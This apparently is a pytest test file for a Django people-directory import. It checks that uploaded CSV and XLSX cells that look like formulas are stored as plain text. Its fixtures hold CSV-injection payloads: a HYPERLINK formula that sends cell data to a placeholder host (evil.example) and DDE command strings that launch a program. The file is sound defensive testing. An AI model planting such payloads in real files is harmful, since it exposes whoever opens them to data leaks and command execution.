"""A people import keeps a cell that starts like a formula as the text it is: nothing is
evaluated and no leading character is taken off (exports neutralise it later)."""

import io

import pytest
from openpyxl import Workbook

from directory import services
from directory.models import Person

pytestmark = pytest.mark.django_db

HEADER = ["Họ và tên", "Chức vụ", "Cơ quan", "Mã đơn vị hành chính", "Email", "Điện thoại"]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+9)*cmd|' /C calc'!A0"


def people_xlsx() -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    sheet.append([HYPERLINK, COMMAND, "Sở Nội vụ tỉnh Vĩnh Phúc", "26", "", "0912000001"])
    sheet.append(["Vũ Thị Hoa", SUM, "Sở Nội vụ tỉnh Vĩnh Phúc", "26", "", "0912000002"])
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def people_csv() -> bytes:
    import csv

    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [
            HEADER,
            [HYPERLINK, COMMAND, "Sở Nội vụ tỉnh Vĩnh Phúc", "26", "", "0912000001"],
            ["Vũ Thị Hoa", SUM, "Sở Nội vụ tỉnh Vĩnh Phúc", "26", "", "0912000002"],
        ]
    )
    return buffer.getvalue().encode("utf-8")


@pytest.mark.parametrize(("name", "content"), [("p.csv", people_csv), ("p.xlsx", people_xlsx)])
def test_formula_like_cells_are_stored_as_their_text(vinh_phuc_organiser, name, content):
    services.import_people(actor=vinh_phuc_organiser, file_name=name, content=content())

    first = Person.objects.get(phone="0912000001")
    assert (first.full_name, first.position) == (HYPERLINK, COMMAND)
    assert Person.objects.get(phone="0912000002").position == SUM
